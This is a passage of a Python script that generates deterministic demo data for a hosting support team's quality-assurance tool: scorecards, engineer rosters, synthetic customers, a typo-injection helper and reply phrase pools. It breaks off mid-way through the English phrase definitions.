#!/usr/bin/env python3
"""Generate the QA Desk demo workspace (resources/demo/) and validate it.

The demo follows the QA practice of a hosting provider's support team (domains, hosting,
VPS/dedicated servers, mail, SSL, DNS, backups, panel, billing, paid administration).
Everything is deterministic (random.Random(20261122)); re-running the script rewrites the
same bytes. Outputs:

  resources/demo/scorecards/<id>.json   qadesk.scorecard/1, one per team
  resources/demo/people.json            qadesk.people/1
  resources/demo/tickets.zendesk.json   a Zendesk Support export (users, groups,
                                        metric_sets, tickets with comments)
  resources/demo/evaluations.json       qadesk.evaluations/1

After writing, the script validates every file (card field rules of spec/scoring.md,
complete and valid answers, references, times) and prints a summary with per-engineer
KPI averages. It exits non-zero on any problem.

Usage: scripts/gen-demo-data.py [--out DIR] [--vectors scoring-vectors.json] [--check-only]
Python 3 standard library only.
"""

import argparse
import datetime as dt
import html
import json
import math
import os
import re
import string
import sys
from random import Random

SEED = 20261122
RNG = Random(SEED)

ROOT = os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
DEFAULT_OUT = os.path.join(ROOT, "resources", "demo")

EMAIL_DOMAIN = "demo.qadesk.example"
WINDOW_START = dt.datetime(2026, 8, 20, 0, 0, tzinfo=dt.timezone.utc)
WINDOW_END = dt.datetime(2026, 11, 19, 23, 59, tzinfo=dt.timezone.utc)
NOW = dt.datetime(2026, 11, 20, 9, 0, tzinfo=dt.timezone.utc)          # "export time"
EVAL_LIMIT = dt.datetime(2026, 11, 21, 17, 0, tzinfo=dt.timezone.utc)   # last evaluation
MAX_TICKETS_BYTES = 1_500_000

VALUES = ("yes", "partly", "no", "na")
ID_RE = re.compile(r"^[a-z0-9][a-z0-9._-]*$")


def iso(t):
    return t.astimezone(dt.timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")


def parse_iso(s):
    return dt.datetime.strptime(s, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=dt.timezone.utc)


def minutes(m):
    return dt.timedelta(minutes=m)


# ---------------------------------------------------------------------------------------
# Scorecards
# ---------------------------------------------------------------------------------------

def C(cid, text, help_, weight=None, **kw):
    c = {"id": cid, "text": text}
    if weight is not None:
        c["weight"] = weight
    c.update(kw)
    c["help"] = help_
    return c


SCORECARDS = [
    {
        "format": "qadesk.scorecard/1",
        "id": "first-line",
        "title": "Первая линия",
        "applies_to": {"teams": ["first-line"], "tags": ["l1"], "channels": ["email", "web"]},
        "sections": [
            {"id": "main", "title": "Основное", "weight": 3, "criteria": [
                C("understood", "Разобрался ли инженер в проблеме клиента?",
                  "Ответ касается именно того, о чём спросил клиент, без повторных уточнений уже сказанного.",
                  2),
                C("first-answer", "Был ли дан объёмный первый ответ?",
                  "Первый ответ содержит диагностику и конкретные шаги, а не «проверьте настройки» или «ожидайте».",
                  2, na_allowed=False),
                C("workaround", "Был ли предоставлен workaround?",
                  "Если полное решение требует времени, клиенту предложен временный обход; N/A — если вопрос решён сразу.",
                  1, partial_credit=0.4),
                C("correct-info", "Корректна ли предоставленная информация?",
                  "Неверный совет, который ведёт к потере данных, простою или нарушению безопасности, — критическая ошибка.",
                  2, critical=True),
                C("verified", "Проверил ли инженер решение перед ответом?",
                  "Инженер сам убедился, что сайт, почта или запись работают, а не написал «должно заработать».",
                  1),
            ]},
            {"id": "process", "title": "Регламент", "weight": 1, "criteria": [
                C("sla", "Соблюдены ли сроки ответа?",
                  "Первый ответ по почте и через форму — не позже 2 часов, повторные — в течение рабочего дня.",
                  na_allowed=False),
                C("tags", "Корректно ли заполнены теги и категория тикета?",
                  "Кроме тега линии должен стоять тег темы: dns, mail, ssl, billing и т. п."),
                C("escalation", "Корректно ли оформлена внутренняя заметка при передаче?",
                  "В заметке для второй линии — аккаунт или сервер, суть проблемы и что уже проверено; N/A, если передачи не было."),
            ]},
            {"id": "tone", "title": "Коммуникация", "weight": 1, "criteria": [
                C("polite", "Вежлив ли ответ?",
                  "Обращение, подпись, отсутствие упрёков клиенту; «Частично» — сухо, но без грубости.",
                  comment_required_for=["no"]),
                C("grammar", "Грамотность",
                  "Орфография и пунктуация; при «Частично» или «Нет» перечислите найденные ошибки."),
            ]},
        ],
    },
    {
        "format": "qadesk.scorecard/1",
        "id": "second-line",
        "title": "Вторая линия",
        "partial_credit": 0.6,
        "applies_to": {"teams": ["second-line"], "tags": ["l2"], "channels": ["email", "web"]},
        "sections": [
            {"id": "diagnostics", "title": "Диагностика и решение", "weight": 3, "criteria": [
                C("root-cause", "Найдена ли причина проблемы?",
                  "Клиенту названа причина, а не только устранено следствие (перезапуск службы не считается решением).",
                  2),
                C("logs", "Проверены ли логи и конфигурация перед выводами?",
                  "Выводы подтверждены логами, выводом команд или конфигурацией — в ответе или во внутренней заметке."),
                C("correct-info", "Корректна ли предоставленная информация?",
                  "Рекомендации не должны создавать риск потери данных или простоя; неверный совет — критическая ошибка.",
                  2, critical=True),
                C("workaround", "Был ли предоставлен workaround до полного решения?",
                  "Пока причина устраняется, сервис клиента должен работать; N/A, если проблема решена сразу.",
                  1, partial_credit=0.3),
            ]},
            {"id": "communication", "title": "Коммуникация и регламент", "weight": 1, "criteria": [
                C("explained", "Понятно ли объяснена причина клиенту?",
                  "Клиент без технической подготовки понимает, что произошло и что делать, чтобы не повторилось."),
                C("sla", "Соблюдены ли сроки ответа?",
                  "Ответ второй линии — в течение 24 часов с момента передачи, при аварии — в течение часа.",
                  na_allowed=False),
                C("internal-note", "Оформлены ли внутренние заметки по результатам диагностики?",
                  "Коллега, открывший тикет, по заметке понимает, что проверено и что сделано на сервере; N/A — если вся диагностика изложена в ответе клиенту."),
                C("grammar", "Грамотность",
                  "Орфография, пунктуация и аккуратное оформление команд и конфигов в блоках кода."),
            ]},
        ],
    },
    {
        "format": "qadesk.scorecard/1",
        "id": "calls",
        "title": "Звонки",
        "partial_credit": 0.5,
        "comment_required_for": ["no"],
        "applies_to": {"teams": ["calls"], "channels": ["voice"]},
        "sections": [
            {"id": "call", "title": "Разговор", "weight": 3, "criteria": [
                C("greeting", "Поприветствовал ли инженер клиента и представился?",
                  "Приветствие, название компании и имя инженера в первой фразе."),
                C("identification", "Идентифицировал ли инженер клиента?",
                  "Номер договора и контрольное слово до того, как сообщать данные аккаунта или менять услуги.",
                  2, critical=True, na_allowed=False),
                C("understood", "Разобрался ли инженер в проблеме клиента?",
                  "Инженер задал уточняющие вопросы и не ушёл в сторону от запроса.",
                  2),
                C("solution", "Решён ли вопрос или дан понятный следующий шаг?",
                  "Клиент после звонка знает, что сделано и чего ждать, со сроками.",
                  2),
                C("polite", "Вежлив ли инженер, не перебивал ли клиента?",
                  "Спокойный тон, клиенту дали договорить."),
            ]},
            {"id": "after-call", "title": "После звонка", "weight": 1, "criteria": [
                C("summary", "Оформлено ли резюме звонка в тикете?",
                  "Кто звонил, как идентифицирован, суть обращения, что сделано, номера заявок.",
                  na_allowed=False, comment_required_for=["no", "partly"]),
                C("followup", "Отправлено ли клиенту письмо с итогами или инструкцией?",
                  "Если по звонку что-то оформлено или обещано — клиенту ушло письмо с подтверждением; иначе N/A.",
                  partial_credit=0.3),
            ]},
        ],
    },
    {
        "format": "qadesk.scorecard/1",
        "id": "chats",
        "title": "Чаты",
        "applies_to": {"teams": ["chats"], "channels": ["chat"]},
        "sections": [
            {"id": "main", "title": "Основное", "weight": 3, "criteria": [
                C("speed", "Быстро ли инженер отвечал в чате?",
                  "Первый ответ — до 2 минут, паузы между сообщениями — не дольше 5 минут без предупреждения.",
                  2, na_allowed=False),
                C("understood", "Разобрался ли инженер в проблеме клиента?",
                  "Уточнил недостающие данные (домен, аккаунт, текст ошибки) и ответил на заданный вопрос.",
                  2),
                C("correct-info", "Корректна ли предоставленная информация?",
                  "Неверные адреса серверов, цены или условия акций — критическая ошибка.",
                  2, critical=True),
                C("complete", "Решён ли вопрос в рамках чата?",
                  "Клиента не отправили «написать на почту» или «почитать базу знаний» без конкретного ответа."),
            ]},
            {"id": "style", "title": "Стиль", "weight": 1, "criteria": [
                C("polite", "Вежлив ли инженер?",
                  "Приветствие, представился, без упрёков и канцелярита."),
                C("grammar", "Грамотность",
                  "В чате допустим разговорный стиль, но не ошибки; при «Частично» приведите примеры.",
                  partial_credit=0.7),
                C("closing", "Уточнил ли инженер, остались ли вопросы, перед закрытием чата?",
                  "Перед завершением — вопрос «Могу ещё чем-то помочь?» и прощание."),
            ]},
        ],
    },
    {
        "format": "qadesk.scorecard/1",
        "id": "paid-services",
        "title": "Платные услуги администрирования",
        "comment_required_for": ["no", "partly", "na"],
        "critical_fails_on": ["no", "partly"],
        "applies_to": {"teams": ["paid-services"], "tags": ["paid"]},
        "sections": [
            {"id": "agreement", "title": "Согласование", "weight": 2, "criteria": [
                C("scope-cost", "Согласованы ли стоимость и объём работ до начала?",
                  "До начала работ клиент письменно подтвердил перечень работ, цену и срок.",
                  2, critical=True, na_allowed=False),
                C("access", "Корректно ли запрошены доступы?",
                  "Доступы — только через защищённую форму, без паролей в тексте тикета; N/A — если сервер уже на нашем обслуживании."),
            ]},
            {"id": "work", "title": "Выполнение работ", "weight": 3, "criteria": [
                C("backup", "Сделана ли резервная копия перед изменениями?",
                  "Снапшот или бэкап до любых изменений на сервере клиента, с отметкой во внутренней заметке.",
                  2, critical=True),
                C("done", "Выполнены ли работы в согласованном объёме и срок?",
                  "Сделано всё, что было в согласованном перечне, в обещанный срок.",
                  2),
                C("verified", "Проверил ли инженер результат после работ?",
                  "Сайт, почта и службы проверены после изменений, результат проверки указан клиенту."),
            ]},
            {"id": "report", "title": "Отчёт и коммуникация", "weight": 1, "criteria": [
                C("report", "Предоставлен ли отчёт о выполненных работах?",
                  "Перечень сделанного, что проверено и рекомендации — в финальном ответе клиенту.",
                  comment_required_for=["no"]),
                C("polite", "Вежливость и грамотность",
                  "Деловой тон, без ошибок, технические детали оформлены аккуратно."),
            ]},
        ],
    },
]
CARD_BY_ID = {c["id"]: c for c in SCORECARDS}

# ---------------------------------------------------------------------------------------
# People
# ---------------------------------------------------------------------------------------

TEAMS = [
    {"id": "first-line", "name": "Первая линия"},
    {"id": "second-line", "name": "Вторая линия"},
    {"id": "calls", "name": "Звонки"},
    {"id": "chats", "name": "Чаты"},
    {"id": "paid-services", "name": "Платные услуги администрирования"},
]
GROUP_IDS = {"first-line": 11, "second-line": 12, "calls": 13, "chats": 14, "paid-services": 15}
LINE_TAG = {"first-line": "l1", "second-line": "l2", "calls": "calls", "chats": "chats",
            "paid-services": "paid"}


def P(login, name, roles, teams, language="ru", **extra):
    d = {"email": f"{login}@{EMAIL_DOMAIN}", "name": name, "roles": roles, "teams": teams,
         "language": language}
    d.update(extra)
    return d


# quality: expected number of minor flaws per ticket (drives the score spread)
ENGINEERS = [
    (P("a.smirnova", "Анна Смирнова", ["engineer"], ["first-line"]), 0.9),
    (P("d.kozlov", "Дмитрий Козлов", ["engineer"], ["first-line"]), 3.4),
    (P("e.volkova", "Екатерина Волкова", ["engineer"], ["first-line"]), 1.4),
    (P("m.brennan", "Michael Brennan", ["engineer"], ["first-line"], "en"), 1.3),
    (P("i.morozov", "Игорь Морозов", ["engineer"], ["second-line"]), 1.2),
    (P("p.lebedev", "Павел Лебедев", ["engineer"], ["second-line"]), 0.8),
    (P("o.novikov", "Олег Новиков", ["engineer"], ["second-line"]), 1.1),
    (P("m.sokolova", "Мария Соколова", ["engineer"], ["calls"]), 0.7),
    (P("n.pavlova", "Наталья Павлова", ["engineer"], ["calls"]), 0.5),
    (P("a.fedorov", "Алексей Фёдоров", ["engineer"], ["chats"]), 1.2),
    (P("s.collins", "Sarah Collins", ["engineer"], ["chats"], "en"), 0.8),
    (P("y.popova", "Юлия Попова", ["engineer"], ["chats"]), 1.2),
    (P("s.vasiliev", "Сергей Васильев", ["engineer"], ["paid-services"]), 1.6),
    (P("a.mikhailov", "Артём Михайлов", ["engineer"], ["paid-services"]), 0.6),
]
TRAINERS = [
    P("o.belova", "Ольга Белова", ["trainer"], []),
    P("v.orlov", "Виктор Орлов", ["trainer"], ["second-line"]),
    P("i.zaytseva", "Ирина Зайцева", ["trainer"], []),
]
ADMIN = P("e.kuznetsova", "Елена Кузнецова", ["admin", "trainer"], [])
ARBITER = P("t.grigorieva", "Татьяна Григорьева", ["arbiter"], [])
TEAM_LEADS = [
    P("a.solovyov", "Андрей Соловьёв", ["team_lead"], ["first-line", "calls", "chats"]),
    P("r.egorov", "Роман Егоров", ["team_lead"], ["second-line", "paid-services"]),
]
QUALITY = {p["email"].split("@")[0]: q for p, q in ENGINEERS}
# which trainers score which team (first = main), the admin scores a few of everything
TRAINER_FOR_TEAM = {
    "first-line": ["o.belova", "i.zaytseva"],
    "second-line": ["v.orlov"],
    "calls": ["i.zaytseva"],
    "chats": ["o.belova"],
    "paid-services": ["v.orlov", "i.zaytseva"],
}
EXCELLENT = "i.morozov"      # only small slips (typos, a late answer), never a wrong diagnosis
# evaluations per engineer (normal kind); the calibration tickets are chosen among them
EVAL_COUNT = {"a.smirnova": 7, "d.kozlov": 7, "e.volkova": 7, "m.brennan": 6,
              "i.morozov": 7, "p.lebedev": 7, "o.novikov": 6, "m.sokolova": 7,
              "n.pavlova": 8, "a.fedorov": 7, "s.collins": 6, "y.popova": 7,
              "s.vasiliev": 6, "a.mikhailov": 8}
# planned critical fails: engineer -> flag put on one of their evaluated tickets
CRITICAL_PLAN = {"d.kozlov": "wrong", "n.pavlova": "no_ident", "a.mikhailov": "no_backup"}
# calibration: (engineer, team) whose evaluated ticket gets a second trainer's opinion
CALIBRATION_PLAN = ["m.sokolova", "a.smirnova", "y.popova", "p.lebedev"]


# how the Russian-speaking engineers sign English replies
NAME_EN = {"a.smirnova": "Anna Smirnova", "d.kozlov": "Dmitry Kozlov", "e.volkova": "Ekaterina Volkova",
           "i.morozov": "Igor Morozov", "p.lebedev": "Pavel Lebedev", "o.novikov": "Oleg Novikov",
           "m.sokolova": "Maria Sokolova", "n.pavlova": "Natalia Pavlova", "a.fedorov": "Alexey Fedorov",
           "y.popova": "Yulia Popova", "s.vasiliev": "Sergey Vasiliev", "a.mikhailov": "Artem Mikhailov"}


def display_name(login, person, lang):
    return NAME_EN.get(login, person["name"]) if lang == "en" else person["name"]


def login_of(email):
    return email.split("@")[0]

# ---------------------------------------------------------------------------------------
# Customers
# ---------------------------------------------------------------------------------------

RU_MALE = ["Иван", "Николай", "Максим", "Евгений", "Владимир", "Константин", "Руслан",
           "Григорий", "Степан", "Тимур", "Денис", "Кирилл", "Антон", "Вадим", "Илья",
           "Георгий", "Фёдор", "Борис", "Леонид", "Станислав", "Ярослав", "Михаил"]
RU_FEMALE = ["Светлана", "Татьяна", "Людмила", "Ксения", "Дарья", "Полина", "Алина", "Вера",
             "Галина", "Марина", "Надежда", "Виктория", "Валентина", "Лариса", "Евгения",
             "Софья", "Анастасия", "Елизавета"]
RU_SURNAMES = [("Петров", "Петрова"), ("Иванов", "Иванова"), ("Кузьмин", "Кузьмина"),
               ("Гусев", "Гусева"), ("Титов", "Титова"), ("Комаров", "Комарова"),
               ("Орехов", "Орехова"), ("Быков", "Быкова"), ("Макаров", "Макарова"),
               ("Зуев", "Зуева"), ("Романов", "Романова"), ("Тарасов", "Тарасова"),
               ("Баранов", "Баранова"), ("Крылов", "Крылова"), ("Сорокин", "Сорокина"),
               ("Ершов", "Ершова"), ("Медведев", "Медведева"), ("Жуков", "Жукова"),
               ("Фролов", "Фролова"), ("Соболев", "Соболева"), ("Ковалёв", "Ковалёва"),
               ("Ильин", "Ильина"), ("Гаврилов", "Гаврилова"), ("Мельников", "Мельникова"),
               ("Щербаков", "Щербакова"), ("Блинов", "Блинова"), ("Колесников", "Колесникова"),
               ("Карпов", "Карпова"), ("Афанасьев", "Афанасьева"), ("Власов", "Власова"),
               ("Маслов", "Маслова"), ("Исаев", "Исаева"), ("Тихонов", "Тихонова"),
               ("Аксёнов", "Аксёнова"), ("Гришин", "Гришина"), ("Кудрявцев", "Кудрявцева"),
               ("Рыбаков", "Рыбакова"), ("Пономарёв", "Пономарёва"), ("Шестаков", "Шестакова"),
               ("Чернов", "Чернова"), ("Савельев", "Савельева"), ("Лукин", "Лукина"),
               ("Давыдов", "Давыдова"), ("Белоусов", "Белоусова"), ("Юдин", "Юдина"),
               ("Сидоренко", "Сидоренко"), ("Шевченко", "Шевченко"), ("Ткаченко", "Ткаченко"),
               ("Горбунов", "Горбунова"), ("Носков", "Носкова"), ("Широков", "Широкова"),
               ("Демидов", "Демидова"), ("Лаптев", "Лаптева"), ("Уваров", "Уварова"),
               ("Зимин", "Зимина"), ("Панов", "Панова")]
RU_SITES = ["vektor-stroy", "romashka-shop", "tehnopark-msk", "zoomir-nn", "sibles-export",
            "uralmet-service", "dachnik-club", "aptekaplus", "autoparts-nsk", "kofeinya-zerno",
            "remont-pro", "detsad-solnyshko", "fotostudio-kadr", "legal-consult",
            "turagent-vostok", "mebel-dom", "stroymarket-74", "cvetochny-ryad", "bukinist-online",
            "pekarnya-hleb", "shkola-angliyskogo", "klinika-zdorovie", "avtoservis-garage",
            "gostinica-volga", "tkani-optom", "santehnik-24", "yoga-prostranstvo", "dom-knigi",
            "kvest-room", "igrushki-mira", "elektrika-pro", "kanctovary-opt", "med-lab",
            "logistika-sever", "parket-master", "okna-teplo", "vet-klinika-drug", "sport-pitanie",
            "chasovoy-master", "muzshkola-5", "rybalka-club", "otdelka-style", "zapchasti-kama",
            "holod-tehnika", "pechati-shtampy", "evakuator-msk", "bani-sruby", "turbaza-les",
            "design-interior", "korm-agro", "pivovarnya-craft", "spektr-it", "volna-fm",
            "baltic-trade", "krasota-salon", "it-kursy"]
EN_FIRST = ["James", "Emily", "Oliver", "Sophie", "Lukas", "Hannah", "Daniel", "Chloe", "Marco",
            "Julia", "Ethan", "Laura", "Tomás", "Ana", "Pieter", "Ingrid", "Ahmed", "Mei", "Ravi",
            "Noah", "Grace", "Felix", "Isabel", "Owen"]
EN_LAST = ["Walker", "Hughes", "Fischer", "Novak", "Rossi", "Jensen", "Moreau", "Kowalski",
           "Schmidt", "Lindgren", "O'Connor", "Silva", "de Vries", "Lindqvist", "Haddad", "Chen",
           "Patel", "Murphy", "Bennett", "Weber", "García", "Evans", "Clarke", "Lambert"]
EN_SITES = ["brightpixel", "northwind-labs", "bluefern", "quietharbor", "mapleleaf-games",
            "kestrel-dev", "oakridge-consulting", "lumenstack", "tidewater-shop", "copperkettle",
            "greenmile-logistics", "foxglove-studio", "silverline-apps", "harborview-hotel",
            "pinecrest-media", "redwood-analytics", "seabird-tours", "stonebridge-law",
            "wildberry-bakery", "ironclad-security", "sunpeak-travel", "nordic-knits",
            "atlas-robotics", "velvet-audio"]
RU_MAIL = ["mail.example", "example.ru", "inbox.example", "post.example", "yandex.example"]
EN_MAIL = ["mail.example", "example.com", "inbox.example", "example.net"]

TRANSLIT = dict(zip("абвгдеёжзийклмнопрстуфхцчшщъыьэюя",
                    ["a", "b", "v", "g", "d", "e", "e", "zh", "z", "i", "y", "k", "l", "m", "n",
                     "o", "p", "r", "s", "t", "u", "f", "kh", "ts", "ch", "sh", "shch", "", "y",
                     "", "e", "yu", "ya"]))


def translit(s):
    return "".join(TRANSLIT.get(ch, ch) for ch in s.lower())


def slugify(s):
    return re.sub(r"[^a-z0-9]+", ".", s.lower()).strip(".")


def make_customers(rng):
    customers = []
    used_names = set()
    for i, site in enumerate(RU_SITES):
        while True:
            female = rng.random() < 0.45
            first = rng.choice(RU_FEMALE if female else RU_MALE)
            last = rng.choice(RU_SURNAMES)[1 if female else 0]
            if (first, last) not in used_names:
                used_names.add((first, last))
                break
        if rng.random() < 0.5:
            email = f"{translit(first)}@{site}.example" if rng.random() < 0.6 else f"info@{site}.example"
        else:
            email = f"{translit(first)[0]}.{translit(last)}@{rng.choice(RU_MAIL)}"
        customers.append({"name": f"{first} {last}", "first": first, "email": email,
                          "lang": "ru", "site": f"{site}.example", "female": female})
    for i, site in enumerate(EN_SITES):
        first, last = EN_FIRST[i], EN_LAST[(i * 7) % len(EN_LAST)]
        if rng.random() < 0.6:
            email = f"{slugify(first)}@{site}.example"
        else:
            email = f"{slugify(first)}.{slugify(last)}@{rng.choice(EN_MAIL)}"
        customers.append({"name": f"{first} {last}", "first": first, "email": email,
                          "lang": "en", "site": f"{site}.example", "female": False})
    used_acc = set()
    for c in customers:
        while True:
            num = rng.randint(100000, 899999)
            if num not in used_acc:
                used_acc.add(num)
                break
        c["acc"], c["acc_l"] = f"DH-{num}", f"u{num}"
        c["ip"] = f"203.0.113.{rng.randint(10, 250)}"
        c["ip2"] = f"198.51.100.{rng.randint(10, 250)}"
        c["vps"] = f"vps-{rng.randint(10000, 99999)}"
        c["ds"] = f"ds-{rng.randint(1000, 9999)}"
        if c["lang"] == "ru":
            c["phone"] = f"+7 9XX XXX-{rng.randint(10, 99)}-{rng.randint(10, 99)}"
            local = rng.choice(["info", "sales", "office", translit(c["first"])])
        else:
            c["phone"] = rng.choice(["+44 7XXX XXX", "+49 15X XXXX", "+31 6 XXXX "]) + f"{rng.randint(100, 999)}"
            local = rng.choice(["info", "hello", slugify(c["first"])])
        c["mbox"] = f"{local}@{c['site']}"
    # e-mail addresses must be unique
    seen = set()
    for c in customers:
        base, dom = c["email"].split("@")
        n = 2
        while c["email"] in seen:
            c["email"] = f"{base}{n}@{dom}"
            n += 1
        seen.add(c["email"])
    return customers


# ---------------------------------------------------------------------------------------
# Text: paragraphs, slots, HTML
# ---------------------------------------------------------------------------------------
# A message is a list of paragraphs.  A paragraph is a str (inline **bold**, [[url|text]],
# "\n" = line break), ("ul", [items]) or ("pre", text).  {slot} fills from the ticket context;
# braces that are not a known slot (nginx configs) stay as they are.

SLOT_RE = re.compile(r"\{([a-z_0-9]+)\}")
BOLD_RE = re.compile(r"\*\*(.+?)\*\*")
LINK_RE = re.compile(r"\[\[(https?://[^|\]]+)\|([^\]]+)\]\]")


def fill(text, ctx):
    return SLOT_RE.sub(lambda m: str(ctx[m.group(1)]) if m.group(1) in ctx else m.group(0), text)


def fill_paras(paras, ctx):
    out = []
    for p in paras:
        if isinstance(p, str):
            out.append(fill(p, ctx))
        elif p[0] == "ul":
            out.append(("ul", [fill(x, ctx) for x in p[1]]))
        else:
            out.append((p[0], fill(p[1], ctx)))
    return out


def inline_html(s):
    s = html.escape(s, quote=False)
    s = BOLD_RE.sub(r"<b>\1</b>", s)
    s = LINK_RE.sub(lambda m: f'<a href="{m.group(1)}">{m.group(2)}</a>', s)
    return s.replace("\n", "<br>")


def inline_plain(s):
    s = BOLD_RE.sub(r"\1", s)
    return LINK_RE.sub(lambda m: m.group(2) if m.group(2) == m.group(1) else f"{m.group(2)} ({m.group(1)})", s)


def to_html(paras):
    parts = []
    for p in paras:
        if isinstance(p, str):
            parts.append(f"<p>{inline_html(p)}</p>")
        elif p[0] == "ul":
            parts.append("<ul>" + "".join(f"<li>{inline_html(x)}</li>" for x in p[1]) + "</ul>")
        else:
            parts.append(f"<pre>{html.escape(p[1], quote=False)}</pre>")
    return "".join(parts)


def to_plain(paras):
    parts = []
    for p in paras:
        if isinstance(p, str):
            parts.append(inline_plain(p))
        elif p[0] == "ul":
            parts.append("\n".join(f"- {inline_plain(x)}" for x in p[1]))
        else:
            parts.append(p[1])
    return "\n\n".join(parts)


def text_of(paras):
    """All words of a message, for typo injection and checks."""
    return to_plain(paras)


def map_text(paras, fn):
    out = []
    for p in paras:
        if isinstance(p, str):
            out.append(fn(p))
        elif p[0] == "ul":
            out.append(("ul", [fn(x) for x in p[1]]))
        else:
            out.append(p)          # never touch code blocks
    return out


RU_TYPOS = [("Здравствуйте", "Здраствуйте"), ("пожалуйста", "пожалуста"), ("чтобы", "что бы"),
            ("в течение", "в течении"), ("также", "так же"), ("проверили", "проверели"),
            ("рекомендуем", "рекомендуим"), ("восстановить", "востановить"),
            ("восстановили", "востановили"), ("извините", "извените"), ("будет", "будит"),
            ("настройки", "настроики"), ("панели", "панеле"), ("сейчас", "щас"),
            ("инструкция", "инстукция"), ("обращайтесь", "обрашайтесь"), ("ошибка", "ошибко"),
            ("изменения", "изминения"), ("обновить", "обнавить"), ("вредоносные", "вредоностные"),
            ("конфигурации", "кофигурации"), ("нагрузка", "нагруска"), ("сообщим", "сообщем"),
            ("рекомендации", "реккомендации"), ("Проверили", "Проверели")]
EN_TYPOS = [("receive", "recieve"), ("definitely", "definately"), ("until", "untill"),
            ("separate", "seperate"), ("address", "adress"), ("which", "wich"),
            ("access", "acess"), ("successfully", "succesfully"), ("your ", "you're "),
            ("please", "pls"), ("Please", "Pls"), ("there", "their"), ("its ", "it's "),
            ("recommend", "reccomend")]


def inject_typos(paras, lang, rng, found, limit=2):
    """Put up to `limit` common misspellings into a message; record them in `found`."""
    table = list(RU_TYPOS if lang == "ru" else EN_TYPOS)
    rng.shuffle(table)
    text = text_of(paras)
    chosen = [(a, b) for a, b in table if a in text][:limit]

    def apply(s):
        for a, b in chosen:
            if a in s:
                s = s.replace(a, b, 1)
        return s
    out = map_text(paras, apply)
    for a, b in chosen:
        if b in text_of(out) and b.strip() not in found:
            found.append(b.strip())
    return out

# ---------------------------------------------------------------------------------------
# Phrase pools
# ---------------------------------------------------------------------------------------

PH = {
    "ru": {
        "c_greet": ["Здравствуйте!", "Добрый день!", "Добрый день.", "Здравствуйте.", "Приветствую!", None],
        "c_sign": ["{cname}", "С уважением, {cname}", "Спасибо.\n{cname}", "{cfirst}",
                   "С уважением,\n{cname}\n{site}"],
        "e_greet1": ["Здравствуйте, {cfirst}!", "Здравствуйте!", "Добрый день, {cfirst}!",
                     "{cfirst}, добрый день!"],
        "e_greet2": ["{cfirst}, добрый день.", "Здравствуйте, {cfirst}.", None, None],
        "e_sign1": ["С уважением,\n{ename}\nТехническая поддержка ДемоХост",
                    "{ename}\nслужба технической поддержки ДемоХост"],
        "e_sign2": ["{efirst}, техподдержка ДемоХост", "С уважением, {efirst}"],
        "curt_greet": ["Добрый день.", None],
        "curt_sign": ["Техподдержка", "Поддержка ДемоХост"],
        "curt_prefix": ["Информация есть в базе знаний, но повторю.", "Отвечаю по существу."],
        # [0] fits a second answer, [1] a first one
        "rude": ["Я же написал выше — читайте ответы внимательнее.",
                 "Всё это есть в базе знаний, перед обращением стоило её посмотреть."],
        "confirm": [["Спасибо, всё работает!"], ["Заработало, благодарю."],
                    ["Отлично, спасибо за помощь!"], ["Да, теперь всё в порядке. Спасибо!"],
                    ["Проверили — работает. Спасибо за быстрый ответ."]],
        "close": [["Рады помочь! Если появятся вопросы — пишите."],
                  ["Отлично, тогда закрываю заявку. Хорошего дня!"],
                  ["Спасибо, что сообщили. Обращайтесь!"]],
        "nudge": [["Есть новости по заявке?"],
                  ["Подскажите, пожалуйста, когда будет ответ? Проблема всё ещё актуальна."],
                  ["Уже полдня жду ответа. Вы вообще работаете?"]],
        "fix_prefix": ["Извините за краткий ответ — расписываю подробнее.", "Дополню свой предыдущий ответ."],
        "mis_prefix": ["Извините, я неверно понял вопрос.", "Прошу прощения, я вас неправильно понял."],
        "bad_note": [["Передаю на вторую линию."], ["2Л, гляньте, пожалуйста, тикет — у клиента не работает."]],
        "consult_bad": [["Вторая линия, посмотрите, пожалуйста, что там у клиента."],
                        ["Коллеги, помогите с тикетом."]],
        "chat_hello": ["Здравствуйте! Меня зовут {efirst}, сейчас посмотрю.",
                       "Добрый день! Я {efirst}, инженер поддержки. Минуту, проверяю.",
                       "Здравствуйте, {cfirst}! Меня зовут {efirst}. Сейчас разберёмся."],
        "chat_hello_curt": ["Смотрю.", "Минуту."],
        "chat_where": ["Вы здесь?", "Алло, есть кто-нибудь?", "Ау?"],
        "chat_close_q": ["Могу ещё чем-нибудь помочь?", "Остались ещё вопросы?",
                         "Подскажите, могу ли я ещё чем-то помочь?"],
        "chat_close_a": ["Нет, спасибо!", "Нет, всё, спасибо большое", "Всё понятно, спасибо"],
        "chat_bye": ["Хорошего дня! Обращайтесь.", "Всегда рады помочь, всего доброго!",
                     "Спасибо за обращение, хорошего вечера!"],
        "chat_end_noclose": ["ок", "Понял", "ясно"],
        "call_agent": "Инженер", "call_cust": "Клиент",
        "call_head": "Звонок от клиента с номера {phone}, длительность {dur}. Расшифровка:",
        "call_hello": "Техническая поддержка ДемоХост, {efirst}, здравствуйте!",
        "call_hello_bad": "Да, слушаю.",
        "ident_q": "Подскажите, пожалуйста, номер договора и контрольное слово.",
        "ident_a": "{acc}, контрольное слово… (называет)",
        "ident_ok": "Спасибо, вижу ваш договор.",
        "ident_q_part": "Номер договора назовите.",
        "ident_a_part": "{acc}.",
        "ident_ok_part": "Ага, вижу.",
        "summary_head": "Резюме звонка",
        "dur": "{m} мин {s} с",
    },
    "en": {
        "c_greet": ["Hello,", "Hi,", "Hi there,", "Dear support,", "Hello support team,", None],
        "c_sign": ["Thanks,\n{cfirst}", "Best regards,\n{cname}", "Cheers, {cfirst}",
                   "Kind regards,\n{cname}\n{site}", "{cname}"],
        "e_greet1": ["Hello {cfirst},", "Hi {cfirst},", "Dear {cfirst},"],
        "e_greet2": ["Hi {cfirst},", "Hello again {cfirst},", None],
        "e_sign1": ["Best regards,\n{ename}\nDemoHost Support", "Kind regards,\n{ename}\nDemoHost technical support"],
        "e_sign2": ["{efirst}, DemoHost Support", "Thanks, {efirst}"],
        "curt_greet": ["Hello.", None],
        "curt_sign": ["Support", "DemoHost Support"],
        "curt_prefix": ["As described in our knowledge base:", "To answer your question:"],
        "rude": ["As I already wrote, read the previous reply carefully.",
                 "This is all covered in our documentation — read it before contacting support."],
        "confirm": [["Thanks, it works now!"], ["All good now, thank you."],
                    ["Perfect, thanks for the quick help!"], ["Confirmed, everything works. Cheers!"]],
        "close": [["Glad to help! Feel free to reach out if anything else comes up."],
